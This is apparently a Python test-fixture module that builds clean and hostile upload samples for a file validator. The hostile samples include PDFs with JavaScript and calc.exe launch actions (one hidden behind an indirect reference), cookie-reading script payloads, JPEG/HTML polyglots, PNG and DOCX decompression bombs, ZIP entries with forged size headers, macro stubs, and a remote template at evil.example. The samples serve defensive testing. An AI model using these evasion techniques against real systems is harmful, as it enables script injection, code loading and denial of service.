"""Real files, clean and hostile, built in memory for the upload tests (imported as
`tests.core.upload_samples`): PDFs made with pypdf, images made with Pillow, office
packages made with zipfile."""

import io
import struct
import zipfile
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    StreamObject,
    TextStringObject,
)

MIB = 1024 * 1024
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
SCRIPT = b"<html><body><script>alert(document.cookie)</script></body></html>"


# -- PDF ------------------------------------------------------------------------------------


def _write(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_writer(pages: int = 1) -> PdfWriter:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    return writer


def pdf(pages: int = 1) -> bytes:
    """A clean, valid PDF with blank pages."""
    return _write(pdf_writer(pages))


def pdf_of_size(size: int) -> bytes:
    """A clean PDF of exactly `size` bytes (padded with an uncompressed stream)."""
    padding = max(size - len(pdf()) - 100, 0)
    for _ in range(5):
        writer = pdf_writer()
        stream = StreamObject()
        stream.set_data(b"0" * padding)
        writer._add_object(stream)
        data = _write(writer)
        if len(data) == size:
            return data
        padding += size - len(data)
    raise AssertionError("could not pad the PDF to the exact size")


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value
    return action


def pdf_with_open_action_javascript() -> bytes:
    writer = pdf_writer()
    writer._root_object[NameObject("/OpenAction")] = _action(
        "/JavaScript", JS=TextStringObject("app.alert('hallo');")
    )
    return _write(writer)


def pdf_with_names_javascript() -> bytes:
    """JavaScript in the catalog's /Names tree, run when the document opens."""
    writer = pdf_writer()
    script = writer._add_object(_action("/JavaScript", JS=TextStringObject("app.alert(1)")))
    tree = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("begroting"), script])}
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(tree)}
    )
    return _write(writer)


def pdf_with_page_aa_javascript_behind_a_reference() -> bytes:
    """A page's open action (/AA /O) whose /S is an indirect reference: the name only
    shows when the reference is followed."""
    writer = pdf_writer()
    kind = writer._add_object(NameObject("/JavaScript"))
    action = DictionaryObject(
        {NameObject("/S"): kind, NameObject("/JS"): TextStringObject("app.alert(1)")}
    )
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})
    # /JS on its own also tells: rename it so only the referenced /S remains.
    del action[NameObject("/JS")]
    action[NameObject("/Script")] = TextStringObject("app.alert(1)")
    return _write(writer)


def pdf_with_orphan_javascript() -> bytes:
    """A JavaScript action in an object that nothing references."""
    writer = pdf_writer()
    writer._add_object(_action("/JavaScript", JS=TextStringObject("app.alert(1)")))
    return _write(writer)


def pdf_with_launch() -> bytes:
    writer = pdf_writer()
    writer._root_object[NameObject("/OpenAction")] = _action(
        "/Launch", F=TextStringObject("C:\\Windows\\System32\\calc.exe")
    )
    return _write(writer)


def pdf_with_embedded_file() -> bytes:
    writer = pdf_writer()
    writer.add_attachment("begroting.xlsm", b"PK\x03\x04 not really")
    return _write(writer)


def pdf_with_file_attachment_annotation() -> bytes:
    writer = pdf_writer()
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/FileAttachment"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (10, 10, 30, 30)]),
            NameObject("/Contents"): TextStringObject("bijlage"),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return _write(writer)


def pdf_with_xfa() -> bytes:
    writer = pdf_writer()
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {
            NameObject("/Fields"): ArrayObject(),
            NameObject("/XFA"): TextStringObject("<xdp:xdp><script>app.alert(1)</script>"),
        }
    )
    return _write(writer)


def encrypted_pdf() -> bytes:
    writer = pdf_writer()
    writer.encrypt("geheim", algorithm="RC4-128")
    return _write(writer)


def html_with_pdf_header() -> bytes:
    return b"%PDF-1.7\n" + SCRIPT


# -- Images ---------------------------------------------------------------------------------


def png(size=(40, 30), mode="RGB") -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size, "teal" if mode != "P" else 3).save(buffer, "PNG")
    return buffer.getvalue()


def png_with_text_chunk() -> bytes:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", SCRIPT.decode())
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), "teal").save(buffer, "PNG", pnginfo=info)
    return buffer.getvalue()


def jpeg(size=(40, 30), *, gps: bool = False, orientation: int | None = None) -> bytes:
    image = Image.new("RGB", size, "orange")
    exif = Image.Exif()
    if gps:
        exif[0x8825] = {1: "N", 2: (52.0, 5.0, 0.0), 3: "E", 4: (4.0, 54.0, 0.0)}
        exif[0x010F] = "Telefoonmerk"  # Make
    if orientation:
        exif[0x0112] = orientation
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=exif.tobytes(), comment=b"geheim")
    return buffer.getvalue()


def jpeg_html_polyglot() -> bytes:
    """A valid JPEG (with GPS in its EXIF) with a web page appended after its end."""
    return jpeg(gps=True) + SCRIPT


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def png_bomb(width: int = 100_000, height: int = 100_000) -> bytes:
    """A tiny PNG that claims to be 100,000 × 100,000 pixels (ten gigapixels)."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1 bit grey
    rows = zlib.compress(b"\x00" * (1 + width // 8) * 8, 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", rows)
        + _png_chunk(b"IEND", b"")
    )


# -- Office packages -----------------------------------------------------------------------


def _zip(entries: dict[str, bytes | str], *, compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as package:
        for name, data in entries.items():
            if name == "mimetype":
                # Stored first, uncompressed, as ODF requires.
                package.writestr(zipfile.ZipInfo("mimetype"), data)
            else:
                package.writestr(name, data)
    return buffer.getvalue()


def _content_types(main: str, part: str, *extra: str) -> str:
    overrides = "".join(extra)
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{part}" ContentType="{main}"/>{overrides}</Types>'
    )


def _rels(*relationships: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(relationships)
        + "</Relationships>"
    )


HYPERLINK = (
    '<Relationship Id="rId9" TargetMode="External" Target="https://www.example.org/" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/>'
)
REMOTE_TEMPLATE = (
    '<Relationship Id="rId1" TargetMode="External" Target="https://evil.example/t.dotm" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate"/>'
)


def docx_entries(**extra) -> dict[str, bytes | str]:
    entries = {
        "[Content_Types].xml": _content_types(DOCX_MAIN, "word/document.xml"),
        "word/document.xml": "<w:document/>",
        "word/_rels/document.xml.rels": _rels(HYPERLINK),
    }
    entries.update(extra)
    return entries


def docx(**extra) -> bytes:
    """A clean DOCX (with an ordinary external hyperlink, which is allowed)."""
    return _zip(docx_entries(**extra))


def docx_with_macros() -> bytes:
    return docx(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macros"})


def docm_renamed() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": _content_types(DOCM_MAIN, "word/document.xml"),
            "word/document.xml": "<w:document/>",
        }
    )


def docx_with_activex() -> bytes:
    return docx(**{"word/activeX/activeX1.xml": "<ax:ocx/>"})


def docx_with_remote_template() -> bytes:
    return docx(**{"word/_rels/settings.xml.rels": _rels(REMOTE_TEMPLATE)})


def docx_with_many_entries(count: int) -> bytes:
    return docx(**{f"word/media/image{n}.xml": "x" for n in range(count)})


def docx_bomb(size: int = 200 * MIB) -> bytes:
    """A DOCX whose document part is `size` bytes of zeros, written as a stream: about
    a thousandth of that on disk."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", _content_types(DOCX_MAIN, "word/document.xml"))
        with package.open("word/document.xml", "w", force_zip64=True) as entry:
            chunk = b"\x00" * MIB
            for _ in range(size // MIB):
                entry.write(chunk)
    return buffer.getvalue()


def docx_with_lying_header(real_size: int = 4 * MIB, claimed_size: int = 4000) -> bytes:
    """A DOCX whose document part inflates to `real_size` bytes while its headers claim
    `claimed_size`: within every limit on paper."""
    data = bytearray(_zip(docx_entries(**{"word/document.xml": b"\x00" * real_size})))
    name = b"word/document.xml"
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = 0
        while (at := data.find(signature, at)) != -1:
            name_at = at + (30 if signature == b"PK\x03\x04" else 46)
            if data[name_at : name_at + len(name)] == name:
                data[at + size_at : at + size_at + 4] = struct.pack("<I", claimed_size)
            at += 4
    return bytes(data)


def xlsx() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": _content_types(XLSX_MAIN, "xl/workbook.xml"),
            "xl/workbook.xml": "<workbook/>",
        }
    )


def odf(mimetype: str, **extra) -> bytes:
    entries = {
        "mimetype": mimetype,
        "content.xml": "<office:document-content/>",
        "META-INF/manifest.xml": "<manifest:manifest/>",
    }
    entries.update(extra)
    return _zip(entries)


def odt(**extra) -> bytes:
    return odf("application/vnd.oasis.opendocument.text", **extra)


def ods() -> bytes:
    return odf("application/vnd.oasis.opendocument.spreadsheet")


def odt_with_basic_macros() -> bytes:
    return odt(**{"Basic/Standard/Module1.xml": "<script:module>Sub Main</script:module>"})
